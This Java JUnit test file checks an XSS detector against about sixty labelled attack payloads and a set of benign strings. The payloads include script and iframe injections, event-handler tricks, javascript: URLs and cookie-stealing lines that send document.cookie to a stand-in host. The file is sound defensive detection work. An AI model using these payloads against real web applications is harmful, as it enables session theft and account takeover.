package dev.vigil.shield.detect.xss;

import static org.assertj.core.api.Assertions.assertThat;

import dev.vigil.core.Severity;
import dev.vigil.shield.detect.Detection;
import dev.vigil.shield.inspect.InspectedValue;
import dev.vigil.shield.inspect.Normalizer;
import dev.vigil.shield.inspect.Source;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

class XssDetectorTest {

    private final XssDetector detector = new XssDetector();

    private List<Detection> inspect(String raw) {
        List<Detection> out = new ArrayList<>();
        detector.inspect(new InspectedValue("query.q", "q", Source.QUERY, -1, Normalizer.variants(raw)), out::add);
        return out;
    }

    static Stream<Arguments> attacks() {
        return Stream.of(
                // VGL-XSS-001 executable or loading tags
                Arguments.of("<script>fetchStuff()</script>", "VGL-XSS-001"),
                Arguments.of("<SCRIPT/SRC=//cdn.example.net/x.js>", "VGL-XSS-001"),
                Arguments.of("hello <iframe src=//example.org/page>", "VGL-XSS-001"),
                Arguments.of("<object data=movie.swf>", "VGL-XSS-001"),
                Arguments.of("<base href=//example.org/>", "VGL-XSS-001"),
                Arguments.of("<meta http-equiv=refresh content='0;url=//example.org'>", "VGL-XSS-001"),
                Arguments.of("<form action=//example.org/collect><input name=pw>", "VGL-XSS-001"),
                Arguments.of("<link rel=import href=//example.org/x.html>", "VGL-XSS-001"),
                Arguments.of("%3Cscript%3Ego()%3C%2Fscript%3E", "VGL-XSS-001"),
                Arguments.of("&lt;embed src=x.swf&gt;", "VGL-XSS-001"),
                Arguments.of("+ADw-script+AD4-go()+ADw-/script+AD4-", "VGL-XSS-001"),
                Arguments.of("<?import namespace=t implementation=#default#time2>", "VGL-XSS-001"),
                Arguments.of("<iframe srcdoc=\"<b onmouseover=go()>\">", "VGL-XSS-001"),
                Arguments.of("<?xml-stylesheet type=\"text/xsl\" href=\"#\"?><doc/>", "VGL-XSS-001"),
                Arguments.of("<?XML-STYLESHEET href='//example.org/t.xsl' ?>", "VGL-XSS-001"),
                // VGL-XSS-002 handlers and scripting attributes
                Arguments.of("<img src=nope onerror=go()>", "VGL-XSS-002"),
                Arguments.of("<img/src/onerror=go()>", "VGL-XSS-002"),
                Arguments.of("<body\nonpageshow=go()", "VGL-XSS-002"),
                Arguments.of("<details open ontoggle=`go()`>", "VGL-XSS-002"),
                Arguments.of("<x\tonpointerenter=go() style=display:block>hover", "VGL-XSS-002"),
                Arguments.of("<span datasrc=#d datafld=f>", "VGL-XSS-002"),
                Arguments.of("<set attributeName=onmouseover to=go()>", "VGL-XSS-002"),
                Arguments.of("<math><mi xlink:href=\"//example.org\">x</mi>", "VGL-XSS-002"),
                // VGL-XSS-003 script URLs
                Arguments.of("<a href=\"javascript:go(1)\">x</a>", "VGL-XSS-003"),
                Arguments.of("<a href=\"  jav&#x09;ascript:go(1)\">x</a>", "VGL-XSS-003"),
                Arguments.of("<a href=\"vbscript:MsgBox 1\">x</a>", "VGL-XSS-003"),
                Arguments.of("javascript:window.name=1", "VGL-XSS-003"),
                Arguments.of("java\tscript:x", "VGL-XSS-003"),
                Arguments.of("data:text/html;base64,PGI+aGk8L2I+", "VGL-XSS-003"),
                Arguments.of("<embed-like src=\"data:application/x-shockwave-flash,x\">", "VGL-XSS-003"),
                Arguments.of("<div style=\"background-image:url(javascript:go(1))\">", "VGL-XSS-003"),
                Arguments.of("javascript://%0ago(1)", "VGL-XSS-003"),
                // VGL-XSS-004 CSS
                Arguments.of("<p style=\"width:expression(go())\">", "VGL-XSS-004"),
                Arguments.of("<p style=\"background:url(//example.org/a.png)\">", "VGL-XSS-004"),
                Arguments.of("color:red;behavior:url(x.htc)", "VGL-XSS-004"),
                Arguments.of("width: expression(go())", "VGL-XSS-004"),
                // VGL-XSS-005 breakouts
                Arguments.of("\" onfocus=go() autofocus x=\"", "VGL-XSS-005"),
                Arguments.of("' onmouseover='go()", "VGL-XSS-005"),
                Arguments.of("x\" onwheel=", "VGL-XSS-005"),
                Arguments.of("'></textarea><b>hi</b>", "VGL-XSS-005"),
                Arguments.of("' accesskey='x' onclick='go(1)' x='", "VGL-XSS-005"),
                // VGL-XSS-006 JavaScript context
                Arguments.of("window.location='//example.org/?'+document.cookie", "VGL-XSS-006"),
                Arguments.of("x=1;(document).cookie", "VGL-XSS-006"),
                Arguments.of("a.innerHTML='<b>'", "VGL-XSS-006"),
                Arguments.of("'-(top)['con'+'firm'](7)-'", "VGL-XSS-006"),
                Arguments.of("scriptdocument.cookie=1;/script", "VGL-XSS-006"),
                Arguments.of("\";alert(1)//", "VGL-XSS-006"),
                Arguments.of("'-prompt`x`-'", "VGL-XSS-006"),
                Arguments.of("x';confirm(document.domain);//", "VGL-XSS-006"),
                Arguments.of("(alert)(7)", "VGL-XSS-006"),
                Arguments.of("[7].forEach(confirm)", "VGL-XSS-006"),
                Arguments.of("top['con'+'firm'](7)", "VGL-XSS-006"),
                Arguments.of("';new Image().src='//example.org/?c='+document.cookie;'", "VGL-XSS-006"),
                Arguments.of("x=eval;x(name)", "VGL-XSS-006"),
                Arguments.of("String.fromCharCode(88,83,83)", "VGL-XSS-006"),
                Arguments.of("setTimeout('go()',1)", "VGL-XSS-006"),
                Arguments.of("o<b>nclick=alert<b>(1)", "VGL-XSS-005"),
                // VGL-XSS-007 client-side templates
                Arguments.of("{{ 'x'.constructor.prototype.y }}", "VGL-XSS-007"),
                Arguments.of("{{$on.constructor('go()')()}}", "VGL-XSS-007"));
    }

    @ParameterizedTest
    @MethodSource("attacks")
    void flags_attacks_with_the_expected_rule(String payload, String ruleId) {
        List<Detection> found = inspect(payload);

        assertThat(found).as(payload).hasSize(1);
        assertThat(found.get(0).ruleId()).as(payload).isEqualTo(ruleId);
        assertThat(found.get(0).start()).isLessThanOrEqualTo(found.get(0).end());
        assertThat(found.get(0).end())
                .isLessThanOrEqualTo(found.get(0).variant().text().length());
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "O'Brien",
                "Hello, world!",
                "x < 5 and y > 3",
                "if (a<b) return c; // compare",
                "I <3 my cat <3",
                "Tom & Jerry <tom@example.com>",
                "<b>bold</b> and <i>italic</i> and <p>para</p>",
                "<a href=\"https://example.com/docs?page=2\">docs</a>",
                "<a href=\"/relative/path\">here</a>",
                "<img src=\"https://example.com/cat.png\" alt=\"a cat\">",
                "<span class=\"price\">$9.99</span>",
                "<div style=\"color: red; font-weight: bold\">warning</div>",
                "<?xml version=\"1.0\" encoding=\"UTF-8\"?><order><id>7</id></order>",
                "JavaScript: The Definitive Guide",
                "javascript:;",
                "javascript:void(0)",
                "{\"link\":\"javascript:void(0);\",\"label\":\"More\"}",
                "The alert (the one from last night) was a false alarm",
                "Please confirm (or cancel) the booking",
                "red alert warning for the region",
                "turned on the lights",
                "online=true&onboarding=done",
                "Hello {{ user.name }}, your order shipped",
                "<%= title %>",
                "price=1.5&currency=EUR&date=2024-03-01",
                "https://example.com/a/b?c=d#e",
                "1alert(1)",
                "see /docs/document.cookie for details",
                "self.name = name",
                "function(e) { return e.target; }",
                "setTimeout(function() { refresh(); }, 100)",
                "data:image/png;base64,iVBORw0KGgo=",
                "C:\\Program Files\\App\\app.exe",
                "Toronto, ON, Canada",
                "use eval with care",
                "<enter your name here>",
                "h1<h2 and h3>h4",
                "a\u0000b\uD800c",
                "<use xlink:href=\"#icon\"/>",
                "<?xml-stylesheet type=\"text/css\"?><note>x</note>",
                "<?xml-stylesheet href=\"/assets/rss.xsl\" type=\"text/xsl\"?><rss/>",
                "../../docs/./readme.md and v1.2 [draft]",
                "Please confirm(yes/no) by Friday",
                "List<Object> all = new ArrayList<>();",
                "Map<String, Frame> frames = load();",
                "self.confirm(len(nodes) == 2)",
                "def confirm(self, test):",
                "walk(path, onerror=handler)",
                "Node onBlock = value(keys)",
                "line = input(prompt)",
                "sock.settimeout(timeout)",
                "copy = eval(repr(d))",
                "pass a `Function` to the handler",
                "node = self.document.createElement(name)",
                "</font> </script> </pre>",
                "Write better prompt(s) for the model",
                "Step 2: confirm (1) item and alert (2) people",
            })
    void leaves_benign_values_alone(String benign) {
        assertThat(inspect(benign)).as(benign).isEmpty();
    }

    @Test
    void reports_one_detection_with_id_category_and_severity() {
        List<Detection> found = inspect("<script>x</script><img src=x onerror=y()>javascript:go()");

        assertThat(found).hasSize(1);
        assertThat(found.get(0).severity()).isEqualTo(Severity.HIGH);
        assertThat(detector.id()).isEqualTo("xss");
        assertThat(detector.category()).isEqualTo("xss");
    }

    @Test
    void handles_huge_and_odd_inputs_quickly() {
        String[] units = {
            "<", "<a ", "<a b=\"", "on", "=", "javascript:", "{{", "(", "`", "'", "\"", "</", "<!", "\uD800"
        };
        for (String unit : units) {
            String big = unit.repeat(70_000 / unit.length());
            long t0 = System.nanoTime();
            inspect(big);
            long ms = (System.nanoTime() - t0) / 1_000_000;
            assertThat(ms).as(unit).isLessThan(2_000);
        }
    }
}
